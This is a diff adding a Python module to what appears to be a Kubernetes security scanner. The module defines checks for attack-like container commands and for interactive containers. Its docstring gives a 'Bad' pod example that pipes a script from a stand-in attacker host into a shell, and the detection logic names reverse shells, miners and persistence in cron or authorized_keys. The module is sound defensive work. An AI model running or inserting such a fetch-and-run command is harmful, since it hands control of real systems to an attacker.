@@ -1,0 +1,129 @@
+"""What containers run, and how they can be talked to."""
+
+from collections.abc import Iterator
+
+from iocaudit.core.check import check
+from iocaudit.core.command import LONGEST, Suspicion, commands_of, is_miner, suspicions
+from iocaudit.core.hit import Hit, Skip
+from iocaudit.core.kinds import PODS
+from iocaudit.core.pod import Container, PodSpec
+from iocaudit.core.severity import IoC, Severity
+from iocaudit.core.shape import lookup
+
+_EXECS = (
+    "livenessProbe",
+    "readinessProbe",
+    "startupProbe",
+    "lifecycle.postStart",
+    "lifecycle.preStop",
+)
+
+
+@check(
+    "suspicious-command",
+    severity=Severity.HIGH,
+    iocs=(IoC.RESOURCE_SPIKE, IoC.OUTBOUND_TRAFFIC, IoC.UNKNOWN_BINARY),
+    group="pods",
+    looks_at=PODS,
+    controls={"attack": "T1059.004", "ms": "MS-TA9039", "owasp": "K01"},
+)
+def suspicious_command(pod: PodSpec) -> Iterator[Hit | Skip]:
+    """A container's command looks like an attack.
+
+    It downloads a program and runs it, opens a reverse shell, starts a known miner or talks to a mining pool,
+    or writes itself into cron or authorized_keys. Commands, arguments, scripts and the exec of probes and
+    lifecycle handlers are read; the command itself is not repeated, since it may hold a password.
+
+    Bad:
+
+        apiVersion: v1
+        kind: Pod
+        metadata: {name: web, namespace: shop}
+        spec:
+          containers:
+          - name: app
+            image: hooli.com/shop/web:1.4
+            command: [sh, -c, "curl -s http://evil.example/x.sh | sh"]
+
+    Good:
+
+        apiVersion: v1
+        kind: Pod
+        metadata: {name: web, namespace: shop}
+        spec:
+          containers:
+          - name: app
+            image: hooli.com/shop/web:1.4
+            command: [/app/web, --port=8080]
+
+    Fix: Find out who wrote it. Build what a container needs into its image.
+
+    Sources: MITRE ATT&CK T1059.004, T1105, T1496.001, T1053.003, T1098.004; Falco's default rules.
+    """
+    for container in pod.containers:
+        for path, argv in _argvs(container):
+            for suspicion in suspicions(argv):
+                yield container.hit(path, suspicion.words, suspicion.id)
+            if sum(map(len, argv)) > LONGEST:
+                yield Skip(f"{container.path}.{path} is longer than {LONGEST} characters: the rest was not read")
+        image = container.image
+        if image is not None and is_miner(image.repository):
+            yield container.hit("image", _MINER.words, _MINER.id)
+
+
+_MINER = Suspicion("miner", "runs the image of a known miner")
+
+
+def _argvs(container: Container) -> Iterator[tuple[str, list[str]]]:
+    """Everything the container runs, with its path: an entry point with its arguments is one command."""
+    command, arguments = commands_of(container.raw.get("command")), commands_of(container.raw.get("args"))
+    if command or arguments:
+        yield ("command" if command else "args"), command + arguments
+    for field in ("source", "script"):  # an Argo script template, a Tekton step
+        script = container.raw.get(field)
+        if isinstance(script, str):
+            yield field, ["sh", script]
+    for path in _EXECS:
+        argv = commands_of(lookup(container.raw, *path.split("."), "exec", "command"))
+        if argv:
+            yield f"{path}.exec.command", argv
+
+
+@check(
+    "interactive-container",
+    severity=Severity.LOW,
+    iocs=(IoC.USER_ACTIVITY,),
+    group="pods",
+    looks_at=PODS,
+    profile="strict",
+    controls={"attack": "T1609", "owasp": "K01"},
+)
+def interactive_container(pod: PodSpec) -> Iterator[Hit]:
+    """A container waits for somebody at a terminal.
+
+    `tty` together with `stdin` is made for a person who attaches. In a workload it is left over from debugging,
+    or kept for somebody to come back to.
+
+    Bad:
+
+        apiVersion: v1
+        kind: Pod
+        metadata: {name: web, namespace: shop}
+        spec:
+          containers: [{name: app, image: "hooli.com/shop/web:1.4", stdin: true, tty: true}]
+
+    Good:
+
+        apiVersion: v1
+        kind: Pod
+        metadata: {name: web, namespace: shop}
+        spec:
+          containers: [{name: app, image: "hooli.com/shop/web:1.4"}]
+
+    Fix: Remove `stdin` and `tty`; debug with an ephemeral container, for a time.
+
+    Sources: Kubernetes API reference, Container v1 core.
+    """
+    for container in pod.containers:
+        if container.raw.get("tty") is True and container.raw.get("stdin") is True:
+            yield container.hit("tty", "keeps a terminal open (stdin and tty)", "true")
